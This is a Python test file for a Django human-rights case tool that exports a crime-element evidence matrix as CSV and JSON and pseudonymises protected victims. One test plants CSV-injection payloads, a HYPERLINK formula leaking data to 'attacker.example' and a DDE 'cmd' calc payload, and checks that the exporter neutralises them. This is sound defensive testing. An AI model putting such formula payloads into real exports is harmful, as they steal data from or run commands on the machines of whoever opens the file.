"""The matrix as CSV and JSON: what it holds, spreadsheet-safe cells, protected persons."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

from django.core.management import call_command

from rightsledger.cases.actions import create_object
from rightsledger.legal.actions import link_to_element, propose_qualification
from rightsledger.legal.export import matrices_for_export, write_matrices
from rightsledger.protection.actions import protect_person
from rightsledger.records import models as rm
from tests.legal.conftest import Scene, crime


def murder(scene: Scene, owner: Any) -> Any:
    return propose_qualification(case=scene.case, acting_user=owner, crime=crime("7(1)(a)"),
                                 act=scene.killing)  # fmt: skip


def csv_rows(scene: Scene, owner: Any, **options: Any) -> list[dict[str, str]]:
    stream = io.StringIO()
    write_matrices(matrices_for_export(scene.case, owner, **options), "csv", stream)
    return list(csv.DictReader(io.StringIO(stream.getvalue())))


def test_json_holds_each_element_its_links_and_gaps(scene: Scene, owner: Any) -> None:
    proposed = murder(scene, owner)
    link_to_element(qualification=proposed, element=proposed.crime.elements.get(number=1),
                    target=scene.rumour_claim, acting_user=owner, note="one post")  # fmt: skip
    (matrix,) = matrices_for_export(scene.case, owner)
    assert matrix["crime"] == "7(1)(a)"
    assert matrix["provision"] == "RS 7(1)(a)"
    assert matrix["proposed"] == "proposed by owner"
    assert [e["element"] for e in matrix["elements"]] == ["1", "2", "3", "30"]
    assert [e["kind"] for e in matrix["elements"]] == ["material", "contextual", "mental", "mental"]
    first = matrix["elements"][0]
    assert first["supporting"] == [{
        "kind": "claim", "id": scene.rumour_claim.pk, "linked": "She was shot by soldiers.",
        "note": "one post", "source": "Anonymous post", "reliability": "E", "credibility": 4,
        "shared": False,
    }]  # fmt: skip
    assert first["gaps"] == ["only_uncorroborated_claims", "only_weak_sources"]
    assert matrix["elements"][1]["shared_context"] == "cah-attack"
    assert all(e["gaps"] == ["nothing_linked"] for e in matrix["elements"][1:])


def test_csv_has_a_row_per_link_and_per_empty_element(scene: Scene, owner: Any) -> None:
    proposed = murder(scene, owner)
    for target in (scene.witness_claim, scene.item):
        link_to_element(qualification=proposed, element=proposed.crime.elements.get(number=1),
                        target=target, acting_user=owner)  # fmt: skip
    rows = csv_rows(scene, owner)
    assert [(r["element"], r["linked_kind"], r["gaps"]) for r in rows] == [
        ("1", "claim", ""), ("1", "evidence", ""), ("2", "", "nothing linked"),
        ("3", "", "nothing linked"), ("30", "", "nothing linked"),
    ]  # fmt: skip
    assert rows[0]["reliability"] == "C"
    assert rows[0]["status"] == "alleged"


def test_cells_a_spreadsheet_would_run_are_neutralised(scene: Scene, owner: Any) -> None:
    proposed = murder(scene, owner)
    hostile = create_object(
        rm.Claim, acting_user=owner, case=scene.case, source=scene.witness, kind="aggregate",
        statement='=HYPERLINK("http://attacker.example/?d="&A1,"see")', event=scene.event,
        category="killed", count=3,
    )  # fmt: skip
    link_to_element(qualification=proposed, element=proposed.crime.elements.get(number=1),
                    target=hostile, acting_user=owner, note="+cmd|' /C calc'!A0")  # fmt: skip
    link_to_element(qualification=proposed, element=proposed.crime.elements.get(number=1),
                    target=scene.item, acting_user=owner, note="-12")  # fmt: skip
    rows = csv_rows(scene, owner)
    assert rows[0]["linked"] == '\'=HYPERLINK("http://attacker.example/?d="&A1,"see")'
    assert rows[0]["note"] == "'+cmd|' /C calc'!A0"
    assert rows[1]["note"] == "-12"  # a plain number runs nothing and stays as it is
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@")), value


def test_protected_persons_appear_by_their_pseudonym(scene: Scene, owner: Any) -> None:
    proposed = murder(scene, owner)
    mention = create_object(
        rm.Claim, acting_user=owner, case=scene.case, source=scene.witness, kind="aggregate",
        statement="Əliyeva Leyla was among the dead.", event=scene.event, category="killed",
        count=1,
    )  # fmt: skip
    for target in (scene.victim, scene.involvement, mention):
        link_to_element(qualification=proposed, element=proposed.crime.elements.get(number=1),
                        target=target, acting_user=owner)  # fmt: skip
    identity = protect_person(scene.victim, category="victim_at_risk", acting_user=owner)
    for purpose in ("internal", "publication"):
        linked = [r["linked"] for r in csv_rows(scene, owner, purpose=purpose) if r["linked"]]
        assert linked[0] == identity.pseudonym
        assert linked[1].startswith(identity.pseudonym)  # the involvement: person — role — act
    internal = [r["linked"] for r in csv_rows(scene, owner) if r["linked"]]
    published = [r["linked"] for r in csv_rows(scene, owner, purpose="publication") if r["linked"]]
    assert internal[2] == "Əliyeva Leyla was among the dead."  # as the source said it
    assert published[2] == f"{identity.pseudonym} was among the dead."
    assert "Əliyeva" not in json.dumps(
        matrices_for_export(scene.case, owner, purpose="publication")
    )


def test_the_matrix_command_writes_csv_and_json(scene: Scene, owner: Any, tmp_path: Any) -> None:
    proposed = murder(scene, owner)
    link_to_element(qualification=proposed, element=proposed.crime.elements.get(number=1),
                    target=scene.item, acting_user=owner)  # fmt: skip
    out = tmp_path / "matrix.json"
    call_command("matrix", "--case", scene.case.slug, "--format", "json", "--output", str(out),
                 "--as", "owner", stdout=io.StringIO())  # fmt: skip
    assert (
        json.loads(out.read_text(encoding="utf-8"))[0]["elements"][0]["supporting"][0]["kind"]
        == "evidence"
    )
    text = io.StringIO()
    call_command("matrix", "--case", scene.case.slug, "--as", "owner", stdout=text)
    assert "elements with gaps: 3 of 4" in text.getvalue()
    assert "+ evidence" in text.getvalue()
